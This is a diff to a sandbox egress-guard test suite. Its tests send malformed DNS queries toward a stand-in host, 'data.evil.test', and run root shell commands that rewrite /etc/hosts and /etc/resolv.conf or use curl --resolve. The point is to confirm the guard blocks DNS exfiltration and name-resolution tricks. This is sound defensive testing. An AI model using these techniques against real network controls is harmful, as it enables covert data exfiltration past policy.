@@ -123,7 +123,7 @@ describe("what is not allowed does not get out", () => {
     });
   });
 
-  it("EG-3 other protocols do not get out", async () => {
+  it.each(["user", "root"])("EG-3 other protocols do not get out, whoever tries: %s", async (user) => {
     await silent(async () => {
       const to = [
         WORLD,
@@ -137,8 +137,8 @@ describe("what is not allowed does not get out", () => {
         "224.0.0.251",
         "255.255.255.255",
       ].flatMap((host) => [53, 123, 443, 3544, 9999].map((port) => [host, port]));
-      for (const answer of await probe(sandbox, { op: "udp", to })) expect(answer.error).toBeDefined();
-      expect(Object.values(await probe(sandbox, { op: "kinds" }))).not.toContain("made");
+      for (const answer of await probe(sandbox, { op: "udp", to }, user)) expect(answer.error).toBeDefined();
+      expect(Object.values(await probe(sandbox, { op: "kinds" }, user))).not.toContain("made");
     });
   });
 
@@ -165,7 +165,7 @@ describe("what is not allowed does not get out", () => {
 
   it("EG-4 asked directly, for any type, by any protocol, no resolver outside hears of it", async () => {
     await bench.lab.name("data.evil.test", [WORLD]);
-    const types = { A: 1, NULL: 10, MX: 15, TXT: 16, AAAA: 28, SRV: 33, HTTPS: 65, ANY: 255 };
+    const types = { A: 1, NULL: 10, MX: 15, TXT: 16, AAAA: 28, SRV: 33, SVCB: 64, HTTPS: 65, ANY: 255 };
     const ask = (name: string, type: number) => [
       ...[7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0],
       ...name.split(".").flatMap((label) => [label.length, ...Buffer.from(label)]),
@@ -189,8 +189,21 @@ for server in order["servers"]:
                 one.sendall(len(question).to_bytes(2, "big") + bytes(question)); one.recv(4096)
             except OSError: pass
 print("done")`;
-    const questions = ["data.evil.test", "api.allowed.test", `${"a".repeat(63)}.evil.test`].flatMap((name) =>
-      Object.values(types).map((type) => ask(name, type)),
+    const label = [4, ...Buffer.from("data"), 0xc0, 12];
+    const odd = [
+      // A label that points at itself, two questions in one, an answer that nobody asked for, an update.
+      [7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...label, 0, 1, 0, 1],
+      [7, 7, 1, 0, 0, 2, 0, 0, 0, 0, 0, 0, ...ask("data.evil.test", 1).slice(12), ...label, 0, 16, 0, 1],
+      [7, 7, 0x81, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...ask("data.evil.test", 1).slice(12)],
+      [7, 7, 0x29, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...ask("data.evil.test", 6).slice(12)],
+      // One name as long as may be, and one that is longer.
+      ask(`${"a".repeat(61)}.`.repeat(3) + `${"a".repeat(56)}.evil.test`, 1),
+      ask(`${"a".repeat(62)}.`.repeat(4) + "evil.test", 1),
+    ];
+    const questions = odd.concat(
+      ["data.evil.test", "api.allowed.test", `${"a".repeat(63)}.evil.test`].flatMap((name) =>
+        Object.values(types).map((type) => ask(name, type)),
+      ),
     );
     // The one inside too: it knows names and nobody to ask about them.
     const inside = text((await sandbox.run(["cat", "/etc/resolv.conf"])).stdout);
@@ -335,13 +348,30 @@ with socket.create_connection(("${host}", 7000), 20) as one:
     expect((await curl(tricked, "http://mixed.test/")).exit).not.toEqual({ kind: "exited", code: 0 });
     const { records } = await bench.lab.look();
     expect(records.filter(({ kind, what }) => kind === "connection" && what.includes(PRIVATE))).toEqual([]);
-    // What the sandbox believes about a name changes nothing: the guard has the name, not the address.
-    const edited = await sandbox.run([
-      "sh",
-      "-c",
-      `curl -sS --max-time 3 --resolve api.allowed.test:443:${OTHER} -k https://api.allowed.test/`,
-    ]);
-    expect(edited.exit).not.toEqual({ kind: "exited", code: 0 });
+  });
+
+  it("EG-7 what the sandbox believes about a name changes nothing: the guard has the name, not the address", async () => {
+    const believing = await bench.sandbox({ rules: [{ host: "api.allowed.test" }] });
+    const host = "api.allowed.test";
+    const reached = async (...more: string[]) =>
+      text((await curl(believing, "-k", ...more, `https://${host}/`)).stdout);
+    expect(await reached(), "control").toBe(`hello from ${host}\n`);
+    const [fake = ""] = text((await believing.run(["getent", "ahostsv4", "evil.test"])).stdout).split(" ");
+    expect(fake).toMatch(/^198\.19\./);
+    await silent(async () => {
+      expect(await reached("--resolve", `${host}:443:${OTHER}`)).toBe("");
+      for (const address of [OTHER, fake]) {
+        const edit = `cp /etc/hosts /tmp/hosts; echo ${address} ${host} >> /etc/hosts; getent ahostsv4 ${host}`;
+        const edited = await believing.run(["sh", "-c", edit], { user: "root" });
+        expect(text(edited.stdout), "control: it believes so").toContain(address);
+        expect(await reached()).toMatch(/^(?:|.*policy_denied.*\n)$/);
+        await believing.run(["sh", "-c", "cat /tmp/hosts > /etc/hosts"], { user: "root" });
+      }
+      const resolver = `echo nameserver ${WORLD} > /etc/resolv.conf; cat /etc/resolv.conf`;
+      const edited = await believing.run(["sh", "-c", resolver], { user: "root" });
+      expect(text(edited.stdout), "control: so it does").toContain(WORLD);
+      expect(await reached("--connect-timeout", "5")).toBe("");
+    });
   });
 
   it("EG-10 TLS for another name than the one asked for is not carried", async () => {
